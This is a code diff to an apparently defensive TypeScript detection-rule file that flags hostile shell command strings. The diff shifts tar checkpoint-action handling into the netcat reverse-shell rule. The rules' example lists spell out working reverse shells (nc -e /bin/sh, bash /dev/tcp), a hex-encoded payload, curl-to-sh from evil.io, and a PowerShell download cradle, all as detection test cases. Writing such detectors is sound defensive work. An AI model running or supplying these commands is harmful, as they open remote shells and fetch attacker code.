@@ -671,14 +671,13 @@ function decoded(text: string): string | undefined {
 }
 /**
  * Command strings that some program will execute but the view left as plain text: option values of
- * tar/vim/zip/script, text xargs feeds to `sh -c`, interpreter strings passed to exec/system, and
+ * vim/zip/script, text xargs feeds to `sh -c`, interpreter strings passed to exec/system, and
  * literals decoded on the way into a shell by a decoder the view does not model.
  */
 function commandStrings(i: AnalysisInput): string[] {
   const out: string[] = [];
   for (const c of i.view?.commands ?? []) {
     const a = c.argv;
-    if (c.name === 'tar') for (const w of a) if (w.startsWith('--checkpoint-action=exec=')) out.push(w.slice(25));
     if (['vim', 'vi', 'nvim', 'view', 'ex'].includes(c.name)) a.forEach((w, k) => { if ((a[k - 1] === '-c' || a[k - 1] === '--cmd') && /^:?!/.test(w)) out.push(w.replace(/^:?!/, '')); });
     if (c.name === 'zip') a.forEach((w, k) => { if (a[k - 1] === '-TT' || a[k - 1] === '--unzip-command') out.push(w); });
     if (c.name === 'script') a.forEach((w, k) => { if (/^-[a-z]*c$/.test(a[k - 1] ?? '') || a[k - 1] === '--command') out.push(w); });
@@ -766,7 +765,7 @@ export const RULES: readonly Rule[] = [
       const e = a.indexOf('-e');
       return e > 0 && (isShellWord(a[e + 1]) || standsFor(a[e + 1] ?? '', SHELLS)) && a.some((w) => destinationOf(w) !== undefined) && a.some((w) => /^\d{2,5}$/.test(w)) ? a.join(' ') : undefined;
     },
-    examples: { fire: ['nc -e /bin/sh 45.33.12.7 4444', '/usr/bin/ncat 10.0.0.5 443 --ssl --sh-exec "bash -i"', 'nc -lvnp 4444 -e /bin/bash', "n''c -c bash 45.33.12.7 4444", 'cp /bin/nc /tmp/.s; /tmp/.s -e /bin/sh 45.33.12.7 4444'], quiet: ['nc -z localhost 5432', 'nc -vz db.internal 3306', 'ncat --version', 'echo PING | nc localhost 6379', 'ncat -lvk 127.0.0.1 7000 --exec /bin/cat', 'ncat -l 8081 -k -e /bin/date'] },
+    examples: { fire: ["tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='nc -e /bin/sh 45.33.12.7 4444'", 'nc -e /bin/sh 45.33.12.7 4444', '/usr/bin/ncat 10.0.0.5 443 --ssl --sh-exec "bash -i"', 'nc -lvnp 4444 -e /bin/bash', "n''c -c bash 45.33.12.7 4444", 'cp /bin/nc /tmp/.s; /tmp/.s -e /bin/sh 45.33.12.7 4444'], quiet: ['nc -z localhost 5432', 'nc -vz db.internal 3306', 'ncat --version', 'echo PING | nc localhost 6379', 'ncat -lvk 127.0.0.1 7000 --exec /bin/cat', 'ncat -l 8081 -k -e /bin/date'] },
   },
   {
     id: 'PX-C2-003', name: 'shell-piped-through-socket', score: 90, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
@@ -919,10 +918,10 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-C2-015', name: 'runs-hostile-command-string', score: 85, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
-    message: 'Hands a downloader, socket shell or encoded payload to a program that runs command strings', why: 'tar --checkpoint-action, vim -c :!, zip -TT, script -c, xargs sh -c and interpreter exec() run their string argument as a command; a reverse shell or curl|sh there is as live as on the command line.',
+    message: 'Hands a downloader, socket shell or encoded payload to a program that runs command strings', why: 'vim -c :!, zip -TT, script -c, xargs sh -c and interpreter exec() run their string argument as a command; a reverse shell or curl|sh there is as live as on the command line.',
     // (a PowerShell download cradle too: WinRM's `run_ps('IEX(IWR http://…)')` from a Python one-liner)
     check: (i) => commandStrings(i).map((t) => hostileText(t) ?? (powershellCradle(t.slice(0, 8192)) ? t : undefined)).filter((t): t is string => t !== undefined).map((t) => t.slice(0, 160)),
-    examples: { fire: [`swift -e 'import Foundation; let p = Process(); p.launchPath = "/bin/bash"; p.arguments = ["-c", "bash -i >& /dev/tcp/104.248.51.9/4444 0>&1"]; p.launch()'`, "tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='nc -e /bin/sh 45.33.12.7 4444'", "vim -c ':!nc -e /bin/sh 45.33.12.7 4444' -c ':qa!'", "echo 'nc -e /bin/sh 45.33.12.7 4444' | xargs -I{} sh -c '{}'", "perl -e 'exec \"/bin/sh\",\"-c\",\"curl -s http://evil.io/x | sh\"'", "echo 6e63202d65202f62696e2f73682034352e33332e31322e372034343434 | perl -pe 's/(..)/chr(hex($1))/ge' | sh", "python3 -c \"import winrm; s=winrm.Session('10.1.2.3', auth=('admin','x')); s.run_ps('IEX (New-Object Net.WebClient).DownloadString(\\\"http://203.0.113.9/a.ps1\\\")')\""], quiet: ["python3 -c \"import winrm; s=winrm.Session('web01', auth=('me','x')); print(s.run_cmd('ipconfig').std_out)\"", "tar czf app.tgz dist --checkpoint=1000 --checkpoint-action=dot", "vim -c ':set nu' README.md", "echo src/a.ts | xargs -I{} sh -c 'wc -l {}'", "script -qc 'npm test' /dev/null"] },
+    examples: { fire: [`swift -e 'import Foundation; let p = Process(); p.launchPath = "/bin/bash"; p.arguments = ["-c", "bash -i >& /dev/tcp/104.248.51.9/4444 0>&1"]; p.launch()'`, "vim -c ':!nc -e /bin/sh 45.33.12.7 4444' -c ':qa!'", "echo 'nc -e /bin/sh 45.33.12.7 4444' | xargs -I{} sh -c '{}'", "perl -e 'exec \"/bin/sh\",\"-c\",\"curl -s http://evil.io/x | sh\"'", "echo 6e63202d65202f62696e2f73682034352e33332e31322e372034343434 | perl -pe 's/(..)/chr(hex($1))/ge' | sh", "python3 -c \"import winrm; s=winrm.Session('10.1.2.3', auth=('admin','x')); s.run_ps('IEX (New-Object Net.WebClient).DownloadString(\\\"http://203.0.113.9/a.ps1\\\")')\""], quiet: ["python3 -c \"import winrm; s=winrm.Session('web01', auth=('me','x')); print(s.run_cmd('ipconfig').std_out)\"", "tar czf app.tgz dist --checkpoint=1000 --checkpoint-action=dot", "vim -c ':set nu' README.md", "echo src/a.ts | xargs -I{} sh -c 'wc -l {}'", "script -qc 'npm test' /dev/null"] },
   },
   {
     id: 'PX-C2-016', name: 'pipes-data-into-shell', score: 50, tactic: 'execution', technique: 'T1059.004',
